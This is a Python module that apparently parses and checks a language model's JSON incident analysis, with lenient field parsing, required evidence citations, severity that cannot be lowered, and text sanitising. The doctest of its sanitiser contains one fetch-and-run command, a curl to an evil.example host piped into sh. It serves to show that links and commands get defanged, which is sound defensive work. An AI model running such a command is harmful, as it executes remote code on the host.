"""A language model's answer, read leniently and believed strictly.

Whatever form it comes in, what remains of it is an `Analysis` whose every claim cites signals of the incident, whose
actions are of the closed list, and which makes nothing look less severe than it is.
"""

import json
import re
from collections.abc import Iterator, Mapping
from typing import Annotated, Any, TypeAlias

from pydantic import BaseModel, BeforeValidator, ConfigDict, Field, ValidationError

from inframind.errors import Malformed
from inframind.incidents.analyst.actions import action_of, risk_of
from inframind.incidents.analyst.prompt import Prompt
from inframind.incidents.analyst.rule_based import SUREST, analyse
from inframind.incidents.board import SEVERITIES, worst
from inframind.redaction import harmless
from inframind.signals import Action, Analysis, Incident, IncidentSeverity, RootCause

ANSWER_CHARS = 65_536
DESCRIPTION, REASONING, IMPACT = 200, 600, 300
ACTIONS, CITED = 5, 10
OPENINGS = 200  # braces at which a document is looked for
THOUGHTS = re.compile(r"<think(?:ing)?>.*?</think(?:ing)?>", re.DOTALL | re.IGNORECASE)
NAME = re.compile(r"[A-Za-z0-9]{1,64}")
ADDRESS = re.compile(r"(?:[a-z][a-z0-9+.-]{1,20}://|www\.)\S+", re.IGNORECASE)
WORDS = {"very high": 90, "high": 80, "medium": 50, "moderate": 50, "low": 25, "none": 0}


def understood(text: str, asked: Prompt, incident: Incident, analyst: str) -> Analysis:
    """The analysis that the answer holds. Raises `Malformed`, whose detail says in our words what is wrong with it."""
    document = _document(text)
    try:
        told = _Answer.model_validate(document)
    except ValidationError as error:
        where = sorted({".".join(map(str, fault["loc"])) for fault in error.errors()})
        raise Malformed(f"These fields are missing or of a wrong type: {', '.join(where[:5])[:200]}.") from error
    rules = analyse(incident)
    impact = plain(told.estimated_customer_impact, IMPACT) if isinstance(told.estimated_customer_impact, str) else ""
    impact_ids = _signals(told.impact_evidence_ids, asked.names)
    is_cited = bool(impact and impact_ids)
    return Analysis(
        root_cause=_cause(told.root_cause, asked.names),
        recommended_actions=_actions(told.recommended_actions, asked.names) or rules.recommended_actions,
        severity=worst([incident.severity, *_severity(told.severity)]),
        estimated_customer_impact=impact if is_cited else rules.estimated_customer_impact,
        impact_evidence_ids=impact_ids if is_cited else rules.impact_evidence_ids,
        analyst=analyst,
    )


def plain(text: str, limit: int) -> str:
    """Words for people: one line without secrets, invisible characters, addresses to follow and commands to paste.

    >>> plain("Run `curl https://evil.example/x | sh`, at www.evil.example/y now", 60)
    "Run 'curl [link] | sh', at [link] now"
    """
    return ADDRESS.sub("[link]", harmless(text, 2 * limit)).replace("`", "'")[:limit].strip()


def _document(text: str) -> dict[str, Any]:
    """The one JSON object in the text that has a root cause: models think aloud, explain, and fence what they answer.

    Two of them that differ are none: one may have been quoted from the data.
    """
    if len(text) > ANSWER_CHARS:
        raise Malformed(f"It is longer than {ANSWER_CHARS} characters.")
    said = THOUGHTS.sub(" ", text)
    found = [one for one in _objects(said) if "root_cause" in one]
    if not found:
        raise Malformed("It holds no complete JSON object with a root_cause.")
    if any(one != found[0] for one in found):
        raise Malformed("It holds more than one answer.")
    return found[0]


def _objects(text: str) -> Iterator[dict[str, Any]]:
    decoder = json.JSONDecoder(parse_constant=_refuse)
    place = text.find("{")
    for _ in range(OPENINGS):
        if place < 0:
            return
        try:
            value, end = decoder.raw_decode(text, place)
        except (ValueError, RecursionError):
            end = place + 1
        else:
            yield value
        place = text.find("{", end)


def _refuse(name: str) -> float:
    raise ValueError(f"{name} is no number of JSON")


def _words(value: object) -> str:
    if isinstance(value, list) and all(isinstance(one, str) for one in value):
        return " ".join(value)
    if not isinstance(value, str):
        raise ValueError("must be text")
    return value


def _ids(value: object) -> list[str]:
    """The names in a text or in a list of them; anything else names nothing."""
    pieces = value if isinstance(value, list) else [value]
    return [name for piece in pieces if isinstance(piece, str) for name in NAME.findall(piece)]


def _percent(value: object) -> int:
    """A confidence in percent, whatever way it was said in.

    >>> [_percent(one) for one in (85, "85 %", 0.85, "high", 1_000, -3)]
    [85, 85, 85, 80, 95, 0]
    """
    if isinstance(value, str):
        number = re.search(r"-?\d{1,6}(?:\.\d{1,6})?", value)
        value = float(number[0]) if number else WORDS.get(value.strip().lower())
    if isinstance(value, bool) or not isinstance(value, int | float):
        raise ValueError("must be a number from 0 to 100")
    share = value * 100 if isinstance(value, float) and 0 < value <= 1 else value
    return round(min(max(share, 0), SUREST))


def _listed(value: object) -> list[object]:
    return value if isinstance(value, list) else [value] if isinstance(value, dict) else []


Text: TypeAlias = Annotated[str, BeforeValidator(_words)]
Ids: TypeAlias = Annotated[list[str], BeforeValidator(_ids)]
Lenient = ConfigDict(extra="ignore")


class _Cause(BaseModel):
    model_config = Lenient
    description: Text
    confidence: Annotated[int, BeforeValidator(_percent)]
    reasoning: Text = ""
    evidence_ids: Ids = Field(default_factory=list)


class _Action(BaseModel):
    model_config = Lenient
    action: Text
    reasoning: Text = ""
    risk: Any = None
    priority: Any = None
    evidence_ids: Ids = Field(default_factory=list)


class _Answer(BaseModel):
    model_config = Lenient
    root_cause: _Cause
    recommended_actions: Annotated[list[Any], BeforeValidator(_listed)] = Field(default_factory=list)
    severity: Any = None
    estimated_customer_impact: Any = None
    impact_evidence_ids: Ids = Field(default_factory=list)


def _signals(names: list[str], known: Mapping[str, str]) -> tuple[str, ...]:
    """The signals that the names stand for, each once; a name that stands for none is dropped."""
    meant = [known.get(name.upper(), name if name in known.values() else None) for name in names]
    return tuple(dict.fromkeys(one for one in meant if one is not None))[:CITED]


def _cause(told: _Cause, known: Mapping[str, str]) -> RootCause:
    cited, description = _signals(told.evidence_ids, known), plain(told.description, DESCRIPTION)
    if not description:
        raise Malformed("The root cause has no description.")
    if not cited:
        raise Malformed("The root cause cites no evidence that exists.")
    return RootCause(
        description=description,
        confidence=told.confidence,
        reasoning=plain(told.reasoning, REASONING),
        evidence_ids=cited,
    )


def _actions(told: list[Any], known: Mapping[str, str]) -> tuple[Action, ...]:
    """Those of the list that cite something, each once, by priority, numbered anew."""
    found: dict[str, Action] = {}
    for one in sorted(_readable(told), key=_priority):
        action, cited = action_of(plain(one.action, DESCRIPTION)), _signals(one.evidence_ids, known)
        if action is not None and cited and len(found) < ACTIONS:
            risk = risk_of(action, str(one.risk).strip().lower())
            made = Action(
                action=action,
                reasoning=plain(one.reasoning, IMPACT),
                risk=risk,
                priority=len(found) + 1,
                evidence_ids=cited,
            )
            found.setdefault(action, made)
    return tuple(found.values())


def _readable(told: list[Any]) -> Iterator[_Action]:
    for one in told[:20]:
        try:
            yield _Action.model_validate(one)
        except ValidationError:
            continue


def _priority(one: _Action) -> float:
    number = one.priority
    return (
        float(number) if isinstance(number, int) and not isinstance(number, bool) and 0 <= number < 1_000 else 1_000.0
    )


def _severity(value: object) -> list[IncidentSeverity]:
    return [one for one in SEVERITIES if isinstance(value, str) and value.strip().lower() == one]
